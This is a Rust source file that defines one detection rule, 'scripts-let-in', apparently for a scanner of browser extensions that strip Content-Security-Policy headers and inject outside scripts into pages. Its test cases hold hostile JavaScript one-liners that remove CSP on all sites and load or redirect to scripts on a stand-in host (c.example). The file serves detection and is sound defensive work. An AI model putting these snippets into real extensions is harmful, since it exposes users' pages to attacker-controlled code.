//! `scripts-let-in`.

use super::protections_stripped::of_all_sites;
use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "scripts-let-in",
    description: "The extension removes the headers that keep foreign scripts out of pages, and lets such scripts in.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::HeadersReceived]), one(&[Atom::ProtectingHeader]), one(&[Atom::HeaderRemoved])],
    within: 250,
    only_if: Some(lets_in),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            r#"chrome.webRequest.onHeadersReceived.addListener(d=>({responseHeaders:d.responseHeaders.filter(h=>h.name!=='content-security-policy')}),{urls:['<all_urls>']},['blocking']);chrome.tabs.onUpdated.addListener(id=>chrome.tabs.executeScript(id,{code:`var s=document.createElement('script');s.src='https://c.example/w.js';document.head.append(s)`}))"#,
            "chrome.declarativeNetRequest.updateDynamicRules({addRules:[{id:1,action:{type:'modifyHeaders',responseHeaders:[{header:'content-security-policy',operation:'remove'}]}},{id:2,action:{type:'redirect',redirect:{url:'https://c.example/a.min.js'}},condition:{resourceTypes:['script']}}]})",
            r#"chrome.declarativeNetRequest.updateSessionRules({addRules:[{id:1,action:{type:'modifyHeaders',responseHeaders:[{header:'content-security-policy',operation:'remove'},{header:'content-security-policy',operation:'set',value:"script-src 'unsafe-eval' *"}]}}]})"#,
        ],
        without: &[
            // Pages in frames beside each other, on a kiosk, for those who make sites.
            "chrome.webRequest.onHeadersReceived.addListener(d=>({responseHeaders:d.responseHeaders.filter(h=>h.name.toLowerCase()!=='content-security-policy')}),{urls:['<all_urls>']},['blocking'])",
            "chrome.declarativeNetRequest.updateDynamicRules({addRules:[{id:1,action:{type:'modifyHeaders',responseHeaders:[{header:'x-frame-options',operation:'remove'},{header:'content-security-policy',operation:'remove'}]},condition:{urlFilter:'*',resourceTypes:['sub_frame']}}]})",
            "chrome.declarativeNetRequest.updateDynamicRules({addRules:[{id:1,action:{type:'modifyHeaders',responseHeaders:[{header:'content-security-policy',operation:'remove'}]}}]});chrome.tabs.executeScript(t,{file:'frame.js'})",
        ],
    },
};

/// Whether code of others gets into pages. The extension runs code in them that makes a script element, or puts another host's
/// script in the place of theirs. It may also set a rule that allows every script.
fn lets_in(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, AROUND);
    let puts_in = || {
        near.has_word(&["executeScript"])
            && (near.has_fact(&[Atom::ScriptElement])
                || near.has_text(&["createelement('script')", "createelement(\"script\")"]))
    };
    let replaced = |at: usize| {
        near.among(at..at + 8).texts().any(|(_, text)| text.starts_with("http") && text.contains(".js"))
    };
    of_all_sites(evidence, held)
        && (puts_in()
            || near.words(&["redirect"]).any(replaced)
            || near.texts().any(|(_, text)| text.contains("unsafe-eval") && text.contains('*')))
}

/// Items around what removes the headers.
const AROUND: usize = 400;
